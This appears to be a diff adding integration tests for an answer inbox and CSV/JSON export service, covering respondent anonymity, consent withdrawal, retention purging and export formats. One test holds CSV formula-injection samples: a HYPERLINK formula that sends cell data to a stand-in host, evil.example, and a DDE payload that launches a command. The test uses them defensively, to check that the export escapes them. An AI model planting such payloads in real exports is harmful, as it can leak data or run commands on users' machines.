@@ -1,0 +1,455 @@
+import { randomUUID } from "node:crypto";
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { startTollfree } from "../../../src/app/server.ts";
+import { purgeExpiredAnswers, sealAnswers } from "../../../src/core/sponsorship/answer/index.ts";
+import type { Respondent } from "../../support/answers.ts";
+import { createRespondent, withdraw } from "../../support/answers.ts";
+import type { Transport } from "../../support/call.ts";
+import { call, expectRefused, expectSuccess, TRANSPORTS } from "../../support/call.ts";
+import { parseCsv } from "../../support/csv.ts";
+import { eventually } from "../../support/eventually.ts";
+import type { Answer, TestServer } from "../../support/server.ts";
+import { startTestServer } from "../../support/server.ts";
+import type { Upstream } from "../../support/upstream.ts";
+import { startUpstream } from "../../support/upstream.ts";
+import { createCampaign, createSponsor, registerApi } from "../../support/world.ts";
+
+const TASK = {
+  type: "object",
+  properties: {
+    score: { type: "integer", minimum: -5, maximum: 5 },
+    comment: { type: "string", maxLength: 200 },
+    topics: { type: "array", items: { type: "string", maxLength: 20 }, maxItems: 5 },
+    place: {
+      type: "object",
+      properties: { region: { type: "string", maxLength: 50, "x-data-type": "region" } },
+      additionalProperties: false,
+    },
+    answer_id: { type: "string", maxLength: 20 },
+    email: { type: "string", format: "email", "x-data-type": "email" },
+  },
+  required: ["score"],
+  additionalProperties: false,
+};
+
+const UUID = /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/;
+const DAY_MS = 86_400_000;
+
+let server: TestServer;
+let upstream: Upstream;
+let acme: { sponsor_id: string; key: string };
+let service: string;
+let campaignId: string;
+let ada: Respondent;
+let bob: Respondent;
+
+const campaign = (changes: Record<string, unknown> = {}): Promise<string> =>
+  createCampaign(server.url, acme, [service], { fundCents: 0, task_schema: TASK, ...changes });
+
+beforeAll(async () => {
+  server = await startTestServer();
+  upstream = await startUpstream();
+  acme = await createSponsor(server.url);
+  service = await registerApi(server.url, acme.key, upstream, "free", { price_cents: 0 });
+});
+afterAll(async () => {
+  await upstream.close();
+  await server.close();
+});
+beforeEach(async () => {
+  [campaignId, ada, bob] = await Promise.all([
+    campaign(),
+    createRespondent(server),
+    createRespondent(server),
+  ]);
+});
+
+const list = (input: object = {}, key = acme.key, transport: Transport = "rest"): Promise<Answer> =>
+  call(server.url, "sponsor.listAnswers", { campaign_id: campaignId, ...input }, key, transport);
+
+const inbox = async (): Promise<Record<string, unknown>[]> => expectSuccess(await list()).answers;
+
+/** The bare file, as a browser would save it. */
+const download = (
+  format?: string,
+  options: { method?: string; headers?: Record<string, string> } = {},
+  id = campaignId,
+): Promise<Response> =>
+  fetch(
+    `${server.url}/sponsor/campaigns/${id}/answers/export${format === undefined ? "" : `?format=${format}`}`,
+    { ...options, headers: { authorization: `Bearer ${acme.key}`, ...options.headers } },
+  );
+
+const text = async (format: string): Promise<string> => (await download(format)).text();
+
+const run = (respondent: Respondent): Promise<Answer> =>
+  call(
+    server.url,
+    "agent.runService",
+    { service_key: service, campaign_id: campaignId, input: {} },
+    respondent.token,
+  );
+
+/** As if an answer had been given some days ago. */
+const backdate = (id: string, days: number) =>
+  server.deps.db.taskCompletion.update({
+    where: { id },
+    data: { createdAt: new Date(Date.now() - days * DAY_MS) },
+  });
+
+describe("the data inbox", () => {
+  test.each(TRANSPORTS)("shows what was answered, newest first, over %s", async (transport) => {
+    const first = await ada.answer(campaignId, { score: 5, place: { region: "Minho" } });
+    const second = await bob.answer(
+      campaignId,
+      { score: 1, email: "bob@example.com" },
+      { contact_permission: true },
+    );
+    const data = expectSuccess(await list({}, acme.key, transport));
+    expect(data).toEqual({
+      answers: [
+        {
+          answer_id: second,
+          respondent_id: expect.stringMatching(/^[0-9a-f]{32}$/),
+          task_data: { score: 1, email: "bob@example.com" },
+          data_types: ["email"],
+          sources: { "/score": "agent", "/email": "agent" },
+          contact_permitted: true,
+          submitted_at: expect.any(String),
+          retained_until: expect.any(String),
+        },
+        expect.objectContaining({
+          answer_id: first,
+          task_data: { score: 5, place: { region: "Minho" } },
+          data_types: ["region"],
+          contact_permitted: false,
+        }),
+      ],
+      total_count: 2,
+      offset: 0,
+      limit: 50,
+    });
+    const [latest] = data.answers as { submitted_at: string; retained_until: string }[];
+    const kept = Date.parse(latest?.retained_until ?? "") - Date.parse(latest?.submitted_at ?? "");
+    expect(kept).toBe(365 * DAY_MS);
+    expect(expectSuccess(await list({ offset: 1, limit: 1 }, acme.key, transport))).toEqual({
+      answers: [data.answers[1]],
+      total_count: 2,
+      offset: 1,
+      limit: 1,
+    });
+  });
+
+  test("says nothing about who answered but what they said", async () => {
+    await ada.answer(campaignId, { score: 5 });
+    const user = await server.deps.db.user.findUniqueOrThrow({ where: { id: ada.grant.user_id } });
+    const consents = await server.deps.db.consent.findMany({ where: { userId: ada.grant.user_id } });
+    const everything = [JSON.stringify(await inbox()), await text("csv"), await text("json")].join("\n");
+    const { subject, agent_id, grant_id } = ada.grant;
+    const sessions = consents.map(({ agentSessionId }) => agentSessionId ?? "");
+    for (const identifier of [user.id, user.email, subject, agent_id, grant_id, ...sessions])
+      expect(everything).not.toContain(identifier);
+  });
+
+  test("knows a respondent again, in one campaign and in no other", async () => {
+    await ada.answer(campaignId);
+    await bob.answer(campaignId);
+    const [bobs, adas] = (await inbox()).map(({ respondent_id }) => respondent_id);
+    expect(adas).not.toBe(bobs);
+    await withdraw(server, ada, campaignId);
+    await ada.answer(campaignId);
+    expect((await inbox())[0]).toMatchObject({ respondent_id: adas });
+    const other = await campaign();
+    await ada.answer(other);
+    const elsewhere = expectSuccess(await list({ campaign_id: other })).answers;
+    expect(elsewhere[0].respondent_id).not.toBe(adas);
+  });
+
+  test("leaves out what wasn't to be shared, though the task is done", async () => {
+    await ada.answer(campaignId, { score: 2 }, { data_sharing_agreed: false });
+    expect(expectSuccess(await list())).toMatchObject({ answers: [], total_count: 0 });
+    expect(await text("json")).toBe("[]\n");
+    expectSuccess(await run(ada));
+  });
+
+  test("is its sponsor's alone", async () => {
+    await ada.answer(campaignId);
+    const other = await createSponsor(server.url, "Other");
+    for (const id of [campaignId, randomUUID(), "no-id"]) {
+      for (const name of ["sponsor.listAnswers", "sponsor.exportAnswers"]) {
+        for (const transport of TRANSPORTS) {
+          const answer = await call(server.url, name, { campaign_id: id }, other.key, transport);
+          expectRefused(answer, 404, "not_found");
+        }
+      }
+    }
+    expectRefused(await list({}, ada.token), 401, "unauthorized");
+    expectRefused(await list({}, ada.grant.agent_key), 401, "unauthorized");
+    for (const wrong of [{ limit: 51 }, { offset: -1 }, { format: "csv" }])
+      expectRefused(await list(wrong), 400, "validation_error");
+  });
+});
+
+describe("a consent that is withdrawn", () => {
+  test.each(["data_sharing", "retention"] as const)(
+    "to %s takes its answer away everywhere, and the completion with it",
+    async (type) => {
+      const id = await ada.answer(campaignId, { score: 5, comment: "take me back" });
+      await bob.answer(campaignId, { score: 1 });
+      expectSuccess(await run(ada));
+
+      await withdraw(server, ada, campaignId, type);
+      expect(await inbox()).toMatchObject([{ task_data: { score: 1 } }]);
+      expect(expectSuccess(await list())).toMatchObject({ total_count: 1 });
+      for (const format of ["json", "csv"]) {
+        expect(await text(format)).not.toContain("take me back");
+        expect(await text(format)).not.toContain(id);
+      }
+      const row = await server.deps.db.taskCompletion.findUniqueOrThrow({ where: { id } });
+      expect(row).toMatchObject({ details: null, withdrawnAt: expect.any(Date) });
+
+      expectRefused(await run(ada), 412, "task_required");
+      expectSuccess(await run(bob));
+      const figures = expectSuccess(
+        await call(server.url, "sponsor.getCampaign", { campaign_id: campaignId }, acme.key),
+      );
+      expect(figures).toMatchObject({
+        completions: 1,
+        figures: { completions: { standing: 1, withdrawn: 1 } },
+      });
+
+      const again = await ada.answer(campaignId, { score: 3 });
+      expect(again).not.toBe(id);
+      expectSuccess(await run(ada));
+      expect(await inbox()).toMatchObject([
+        { answer_id: again, contact_permitted: false },
+        { task_data: { score: 1 } },
+      ]);
+    },
+  );
+
+  test("to be contacted only withdraws the permission", async () => {
+    await ada.answer(campaignId, { score: 5 }, { contact_permission: true });
+    expect(await inbox()).toMatchObject([{ contact_permitted: true }]);
+    await withdraw(server, ada, campaignId, "contact");
+    expect(await inbox()).toMatchObject([{ contact_permitted: false, task_data: { score: 5 } }]);
+    expectSuccess(await run(ada));
+  });
+
+  test("isn't made up for by what was agreed to in an earlier act", async () => {
+    await ada.answer(campaignId, { score: 5 }, { contact_permission: true });
+    await withdraw(server, ada, campaignId);
+    await ada.answer(campaignId, { score: 4 }, { data_sharing_agreed: false });
+    expect(await inbox()).toEqual([]);
+    await withdraw(server, ada, campaignId);
+    await ada.answer(campaignId, { score: 3 });
+    expect(await inbox()).toMatchObject([{ task_data: { score: 3 }, contact_permitted: false }]);
+  });
+});
+
+describe("retention", () => {
+  test("past it an answer is shown to nobody, then deleted; the completion still counts", async () => {
+    campaignId = await campaign({ retention_days: 10 });
+    const [old, young] = [await ada.answer(campaignId), await bob.answer(campaignId)];
+    await backdate(old, 10);
+    await backdate(young, 9.99);
+
+    expect(await inbox()).toMatchObject([{ answer_id: young }]);
+    expect(expectSuccess(await list())).toMatchObject({ total_count: 1 });
+    expect(await text("csv")).not.toContain(old);
+
+    const kept = () => server.deps.db.taskCompletion.count({ where: { campaignId, details: { not: null } } });
+    expect(await kept()).toBe(2);
+    expect(await purgeExpiredAnswers(server.deps)).toBe(1);
+    expect(await kept()).toBe(1);
+    expect(await purgeExpiredAnswers(server.deps)).toBe(0);
+    expect(await inbox()).toMatchObject([{ answer_id: young }]);
+    expectSuccess(await run(ada));
+    expect(await server.deps.db.taskCompletion.findUnique({ where: { id: old } })).toMatchObject({
+      details: null,
+      withdrawnAt: null,
+    });
+  });
+
+  test("a server deletes what is due when it starts, and several at once each answer once", async () => {
+    campaignId = await campaign({ retention_days: 1 });
+    const id = await ada.answer(campaignId);
+    await backdate(id, 2);
+    const replica = await startTollfree(server.options);
+    try {
+      await eventually(async () => {
+        const row = await server.deps.db.taskCompletion.findUnique({ where: { id } });
+        expect(row?.details).toBeNull();
+      });
+    } finally {
+      await replica.stop();
+    }
+    await server.deps.db.$executeRaw`
+      INSERT INTO task_completions (campaign_id, user_id, task_name, details, data_types, created_at)
+      SELECT ${campaignId}::uuid, gen_random_uuid(), 'many', '\\x00', '{}', now() - interval '3 days' FROM generate_series(1, 1200)`;
+    const purged = await Promise.all([1, 2, 3].map(() => purgeExpiredAnswers(server.deps)));
+    expect(purged.reduce((sum, count) => sum + count, 0)).toBe(1_200);
+  });
+});
+
+/** Many answers of people nobody needs to know, written straight to the database; returns their ids, oldest first. */
+async function insertAnswers(count: number): Promise<string[]> {
+  const { db, cipher } = server.deps;
+  const act = { campaignId, dataTypes: [] };
+  const rows = Array.from({ length: count }, (_, n) => {
+    const id = randomUUID();
+    const details = sealAnswers(cipher, id, { score: n % 5 });
+    const createdAt = new Date(Date.now() - count + n);
+    return { ...act, id, userId: randomUUID(), taskName: "many", details, createdAt };
+  });
+  await db.taskCompletion.createMany({ data: rows });
+  const consent = { ...act, consentType: "data_sharing", granted: true, purpose: "many" };
+  await db.consent.createMany({
+    data: rows.map(({ id, userId }) => ({ ...consent, userId, completionId: id })),
+  });
+  return rows.map(({ id }) => id);
+}
+
+describe("an export as JSON", () => {
+  test("is the inbox, oldest first, as a file without an envelope", async () => {
+    await ada.answer(campaignId, { score: 5, place: { region: "Trás-os-Montes" } });
+    await bob.answer(campaignId, { score: -1 });
+    const response = await download();
+    expect(response.status).toBe(200);
+    expect(Object.fromEntries(response.headers)).toMatchObject({
+      "content-type": "application/json; charset=utf-8",
+      "content-disposition": `attachment; filename="answers-${campaignId}.json"`,
+      "cache-control": "no-store",
+      "x-request-id": expect.stringMatching(UUID),
+      "x-content-type-options": "nosniff",
+    });
+    expect(await response.json()).toEqual((await inbox()).toReversed());
+  });
+
+  test("holds all of many, each once, in order", async () => {
+    const ids = await insertAnswers(250);
+    const exported = (await (await download("json")).json()) as { answer_id: string }[];
+    expect(exported.map(({ answer_id }) => answer_id)).toEqual(ids);
+    expect((await text("csv")).trimEnd().split("\r\n")).toHaveLength(251);
+  });
+});
+
+describe("an export as CSV", () => {
+  const HEADER = ["answer_id", "respondent_id", "submitted_at", "retained_until", "contact_permitted"];
+
+  test("has a column for each field of the task, nested values as JSON", async () => {
+    const comment = 'She said "good", then\r\nleft; ünïcödé 😀';
+    const topics = ["sun", "rain, heavy"];
+    const task_data = { score: -3, comment, topics, place: { region: "Minho" }, answer_id: "mine" };
+    await ada.answer(campaignId, task_data, { contact_permission: true });
+    await bob.answer(campaignId, { score: 2 });
+
+    const response = await download("csv");
+    expect(Object.fromEntries(response.headers)).toMatchObject({
+      "content-type": "text/csv; charset=utf-8; header=present",
+      "content-disposition": `attachment; filename="answers-${campaignId}.csv"`,
+    });
+    const csv = await response.text();
+    const [header, first, second, ...more] = parseCsv(csv);
+    expect(more).toEqual([]);
+    const [bobs, adas] = await inbox();
+    const about = (answer?: Record<string, unknown>) => HEADER.map((name) => String(answer?.[name]));
+    const columns = [...(header ?? []).slice(HEADER.length + 1)];
+    expect(header).toEqual([...HEADER, "data_types", ...columns]);
+    expect([...columns].sort()).toEqual([
+      "comment",
+      "email",
+      "place",
+      "score",
+      "task_data.answer_id",
+      "topics",
+    ]);
+    const cells = (record?: string[]) =>
+      Object.fromEntries(columns.map((name, index) => [name, record?.[HEADER.length + 1 + index]]));
+    expect(first?.slice(0, HEADER.length + 1)).toEqual([...about(adas), "region"]);
+    expect(cells(first)).toEqual({
+      score: "-3",
+      comment,
+      topics: JSON.stringify(topics),
+      place: '{"region":"Minho"}',
+      "task_data.answer_id": "mine",
+      email: "",
+    });
+    expect(second?.slice(0, HEADER.length + 1)).toEqual([...about(bobs), ""]);
+    expect(cells(second)).toMatchObject({ score: "2", comment: "", topics: "" });
+    expect(csv.endsWith("\r\n")).toBe(true);
+  });
+
+  test("lets no answer run as a formula, and leaves JSON as it is", async () => {
+    const formulas = ['=HYPERLINK("https://evil.example?"&A1,"click")', "-2+3+cmd|' /C calc'!A0"];
+    await ada.answer(campaignId, { score: 1, comment: formulas[0] });
+    await bob.answer(campaignId, { score: 1, comment: formulas[1] });
+    const [header = [], ...records] = parseCsv(await text("csv"));
+    const column = header.indexOf("comment");
+    expect(records.map((record) => record[column])).toEqual(formulas.map((formula) => `'${formula}`));
+    const exported = (await (await download("json")).json()) as { task_data: { comment: string } }[];
+    expect(exported.map(({ task_data }) => task_data.comment)).toEqual(formulas);
+  });
+
+  test("of nothing is its header", async () => {
+    expect(parseCsv(await text("csv"))).toHaveLength(1);
+  });
+});
+
+describe("an export", () => {
+  test("comes in the envelope over tRPC, the same text", async () => {
+    await ada.answer(campaignId, { score: 5 });
+    for (const format of ["json", "csv"]) {
+      const input = { campaign_id: campaignId, format };
+      const data = expectSuccess(await call(server.url, "sponsor.exportAnswers", input, acme.key, "trpc"));
+      expect(data).toEqual({
+        filename: `answers-${campaignId}.${format}`,
+        content_type: (await download(format)).headers.get("content-type"),
+        content: await text(format),
+      });
+    }
+  });
+
+  test("refuses in the envelope", async () => {
+    for (const [response, status, code] of [
+      [await download("xml"), 400, "validation_error"],
+      [await download("csv&limit=3"), 400, "validation_error"],
+      [await download("csv", {}, randomUUID()), 404, "not_found"],
+      [await download("csv", { headers: { authorization: "Bearer tf_sk_unknown" } }), 401, "unauthorized"],
+      [await download("csv", { method: "POST" }), 405, "method_not_allowed"],
+    ] as const) {
+      expect(response.status).toBe(status);
+      expect(response.headers.get("content-disposition")).toBeNull();
+      expect(await response.json()).toMatchObject({ status: "error", error_code: code });
+    }
+  });
+
+  test("answers a HEAD without the file", async () => {
+    const response = await download("csv", { method: "HEAD" });
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-disposition")).toContain("attachment");
+    expect(await response.text()).toBe("");
+  });
+
+  test("that fails at once is refused, one that fails later breaks off: never a part as if it were all", async () => {
+    const ids = await insertAnswers(150);
+    const spoil = (id: string | undefined) =>
+      server.deps.db.taskCompletion.update({ where: { id: id ?? "" }, data: { details: Buffer.alloc(60) } });
+    await spoil(ids[140]);
+    const response = await download("json");
+    expect(response.status).toBe(200);
+    await expect(response.text()).rejects.toThrow();
+
+    await spoil(ids[3]);
+    const refused = await download("json");
+    expect(refused.status).toBe(500);
+    expect(await refused.json()).toMatchObject({ error_code: "internal_error" });
+  });
+
+  test("stops reading when its reader leaves", async () => {
+    await insertAnswers(300);
+    const response = await download("json");
+    await response.body?.cancel();
+    expectSuccess(await list());
+  });
+});
